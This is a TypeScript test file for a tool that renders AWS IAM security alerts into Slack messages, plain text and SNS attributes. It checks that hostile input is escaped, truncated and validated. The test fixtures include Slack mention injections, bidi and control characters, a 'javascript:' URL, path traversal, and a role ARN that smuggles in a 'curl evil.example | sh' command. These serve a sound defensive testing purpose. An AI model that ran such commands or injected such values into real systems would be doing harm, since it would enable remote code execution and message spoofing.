import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../shared/core/alert/alert.js';
import { snsMessageAttributes } from '../../shared/core/alert/attributes.js';
import { escapeMrkdwn, mrkdwnCode, sanitizeText, shellQuote } from '../../shared/core/alert/escape.js';
import {
  consoleEventUrl,
  renderSlackMessage,
  SLACK_LIMITS,
  type SlackMessage,
} from '../../shared/core/alert/render-slack.js';
import { renderAlertLine, renderAlertText } from '../../shared/core/alert/render-text.js';
import { makeAlert, textFields } from './helpers.js';

const GOLDEN_DIR = join(import.meta.dirname, '../golden/slack');
const HOSTILE =
  'x<!channel> <!here> <@U0123ABC> <https://evil.example|click> *bold* _it_ ~st~ `code`\nline2\r\u202Eevil\u0007 https://evil.example/p &amp;';
const MEGA = `<!channel>${'A<'.repeat(512 * 1024)}`; // ~1 MB

function golden(name: string, msg: SlackMessage) {
  const file = join(GOLDEN_DIR, `${name}.json`);
  const actual = `${JSON.stringify(msg, null, 2)}\n`;
  if (process.env.UPDATE_GOLDEN === '1') writeFileSync(file, actual);
  if (!existsSync(file))
    throw new Error(`missing golden file ${file}; run \`npm run generate\` to create it`);
  expect(actual, `${file} is stale: if the change is intended, run \`npm run generate\``).toBe(
    readFileSync(file, 'utf8'),
  );
}

function assertWithinLimits(msg: SlackMessage) {
  expect(msg.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
  for (const b of msg.blocks) {
    if (b.type === 'header') expect(b.text.text.length).toBeLessThanOrEqual(SLACK_LIMITS.headerText);
    if (b.type === 'section') {
      if (b.text) expect(b.text.text.length).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
      for (const f of b.fields ?? []) expect(f.text.length).toBeLessThanOrEqual(SLACK_LIMITS.fieldText);
      expect((b.fields ?? []).length).toBeLessThanOrEqual(SLACK_LIMITS.fields);
    }
  }
  expect(msg.text.length).toBeLessThanOrEqual(3000);
}

/** No live Slack control sequence or formatting survives in any text of the message. */
function assertNothingLive(msg: SlackMessage) {
  for (const t of textFields(msg)) {
    expect(t).not.toContain('<!');
    expect(t).not.toContain('<@');
    expect(t).not.toContain('<http');
    expect(t).not.toContain('|click>');
    expect(t).not.toContain('<');
    expect(t).not.toMatch(/[\r\u0007\u202E]/); // no raw control characters from the input
    expect(t).not.toMatch(/\n(line2|evil)/); // injected line breaks became spaces
    // Formatting characters are inert inside code spans; outside them none may form a pair.
    const outside = t.replace(/`[^`]*`/g, '');
    expect(outside).not.toContain('*bold*');
    expect(outside).not.toContain('_it_');
    expect(outside).not.toContain('~st~');
    expect(t).not.toContain('https://evil');
  }
  const json = JSON.stringify(msg);
  expect(json).not.toContain('\\u202e');
  expect(json).not.toContain('\\u0007');
}

const oidc = makeAlert();
const breakGlass = makeAlert({
  id: 'bg0001',
  rule: 'break-glass-used',
  severity: 'critical',
  title: 'Break-glass identity used',
  reasons: ['arn:aws:iam::111122223333:role/break-glass was assumed outside a declared incident window'],
  eventName: 'AssumeRole',
  eventId: '9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a',
  actor: {
    type: 'AssumedRole',
    arn: 'arn:aws:sts::111122223333:assumed-role/admin-sso/jane.doe@example.com',
    sessionName: 'jane.doe@example.com',
    sourceIp: '198.51.100.7',
    userAgent: 'aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0 exe/x86_64.ubuntu.22',
  },
  target: { type: 'role', arn: 'arn:aws:iam::111122223333:role/break-glass', name: 'break-glass' },
  baseline: {
    owner: 'security',
    purpose: 'emergency access when SSO is down',
    kind: 'break-glass',
    reviewAfter: '2026-01-15',
  },
  team: 'security',
  attack: ['T1078.004'],
  count: 3,
  lastEventTime: '2026-03-02T10:40:00Z',
  environment: 'production',
  runbook: 'iamwatch incident list; if no incident is open, page the owner and rotate the credentials.',
});
const hostile = makeAlert({
  id: 'hostile01',
  title: 'OIDC role assumed from an unexpected subject',
  reasons: [`subject ${HOSTILE} is not allowed`, `user agent ${MEGA}`],
  actor: {
    type: 'WebIdentityUser',
    arn: null,
    subject: `repo:evil-org/x:ref:refs/heads/${HOSTILE}`,
    provider: 'token.actions.githubusercontent.com',
    sessionName: HOSTILE,
    sourceIp: '203.0.113.9',
    userAgent: MEGA,
  },
  target: { type: 'role', arn: `arn:aws:iam::111122223333:role/x; curl evil.example | sh`, name: HOSTILE },
  baseline: null,
  team: HOSTILE,
  degraded: ['dedupe-unavailable'],
});

describe('renderSlackMessage', () => {
  it('renders a normal OIDC alert (golden)', () => {
    const msg = renderSlackMessage(oidc);
    golden('oidc-unexpected-subject', msg);
    assertWithinLimits(msg);
    const all = textFields(msg).join('\n');
    expect(all).toContain('`repo:example-org/api:pull_request`');
    expect(all).toContain('`iamwatch baseline show arn:aws:iam::111122223333:role/gha-deploy`');
    expect(all).toContain('platform-security');
    expect(all).not.toContain('*Count*');
  });

  it('renders a break-glass alert with count, overdue review and console button (golden)', () => {
    const msg = renderSlackMessage(breakGlass, { consoleBaseUrl: 'https://{region}.console.aws.amazon.com' });
    golden('break-glass-used', msg);
    const all = textFields(msg).join('\n');
    expect(all).toContain('🔴 CRITICAL');
    expect(all).toContain('3 events, last at `2026-03-02T10:40:00Z`');
    expect(all).toContain('2026-01-15 (overdue)');
    const actions = msg.blocks.find((b) => b.type === 'actions');
    expect(actions).toEqual({
      type: 'actions',
      elements: [
        expect.objectContaining({
          url: 'https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a',
        }),
      ],
    });
  });

  it('neutralises hostile session name, user agent and subject (golden)', () => {
    const msg = renderSlackMessage(hostile);
    golden('hostile-text', msg);
    assertWithinLimits(msg);
    assertNothingLive(msg);
    const all = textFields(msg).join('\n');
    expect(all).toContain('&lt;!channel&gt;');
    expect(all).toContain(`… (${MEGA.length} chars)`);
    expect(all).toContain('no baseline');
    // The copy-paste command quotes the hostile ARN for the shell.
    expect(all).toContain(
      `iamwatch baseline show 'arn:aws:iam::111122223333:role/x; curl evil.example | sh'`,
    );
    expect(JSON.stringify(msg).length).toBeLessThan(20_000);
  });

  it('omits the console link when account, region or event id fail validation', () => {
    expect(consoleEventUrl({ ...oidc, region: 'us-east-1.evil.example/#' })).toBeNull();
    expect(consoleEventUrl({ ...oidc, account: '1111<!here>' })).toBeNull();
    expect(consoleEventUrl({ ...oidc, eventId: '../../x' })).toBeNull();
    expect(consoleEventUrl(oidc, 'javascript:alert(1)')).toBeNull();
    expect(consoleEventUrl(oidc, 'https://console.amazonaws-us-gov.com/')).toBe(
      'https://console.amazonaws-us-gov.com/cloudtrailv2/home?region=us-east-1#/events/3b1a2c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d',
    );
    const msg = renderSlackMessage({ ...oidc, eventId: 'not-a-uuid' });
    expect(msg.blocks.some((b) => b.type === 'actions')).toBe(false);
  });

  it('stays within limits with many long reasons', () => {
    const msg = renderSlackMessage(
      makeAlert({ reasons: Array.from({ length: 40 }, (_, i) => `${i}:${'<'.repeat(5000)}`) }),
    );
    assertWithinLimits(msg);
    expect(textFields(msg).join('\n')).toContain('… and 32 more');
  });
});

describe('escape', () => {
  it('escapes entities and neutralises formatting and links', () => {
    expect(escapeMrkdwn('a & b <!here>')).toBe('a &amp; b &lt;!here&gt;');
    expect(escapeMrkdwn('*bold*')).toBe('\u200B*\u200Bbold\u200B*\u200B');
    expect(escapeMrkdwn('see https://x.example and www.x.example')).toBe(
      'see https:\u200B//x.example and www\u200B.x.example',
    );
    expect(escapeMrkdwn('a\nb\r\nc\u0000d\u202Ee')).toBe('a b cde');
  });

  it('puts values in code spans that cannot be closed', () => {
    expect(mrkdwnCode('a`b*c*')).toBe('`aˋb*c*`');
    expect(mrkdwnCode('')).toBe('—');
    expect(mrkdwnCode(null)).toBe('—');
    expect(mrkdwnCode('<@U1>')).toBe('`&lt;@U1&gt;`');
  });

  it('caps by output length, never splitting a surrogate pair or an entity', () => {
    const out = escapeMrkdwn('<'.repeat(1000), { max: 100 });
    expect(out.length).toBeLessThanOrEqual(100);
    expect(out).toMatch(/^(&lt;)+… \(1000 chars\)$/);
    const emoji = sanitizeText('😀'.repeat(100), { max: 21 });
    expect(emoji.length).toBeLessThanOrEqual(21);
    expect(emoji).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/);
  });

  it('shell-quotes non-plain tokens', () => {
    expect(shellQuote('arn:aws:iam::111122223333:role/a')).toBe('arn:aws:iam::111122223333:role/a');
    expect(shellQuote("a'b; rm")).toBe(`'a'\\''b; rm'`);
    expect(shellQuote('arn:aws:iam::*:role/x')).toBe(`'arn:aws:iam::*:role/x'`);
  });
});

describe('plain-text rendering and SNS attributes', () => {
  it('renders text without control characters', () => {
    const text = renderAlertText(hostile);
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
    expect(text.split('\n').every((l) => l.length < 1000)).toBe(true);
    expect(renderAlertLine(oidc)).toBe(
      '[HIGH] OIDC role assumed from an unexpected subject — arn:aws:iam::111122223333:role/gha-deploy (111122223333 us-east-1) rule=oidc-unexpected-subject id=a1b2c3d4e5f60718',
    );
  });

  it('gives every routing attribute a non-empty String value', () => {
    const a: Alert = makeAlert({ team: null, environment: undefined });
    expect(snsMessageAttributes(a)).toEqual({
      severity: { DataType: 'String', StringValue: 'high' },
      team: { DataType: 'String', StringValue: 'none' },
      rule: { DataType: 'String', StringValue: 'oidc-unexpected-subject' },
      account: { DataType: 'String', StringValue: '111122223333' },
      environment: { DataType: 'String', StringValue: 'none' },
    });
  });
});
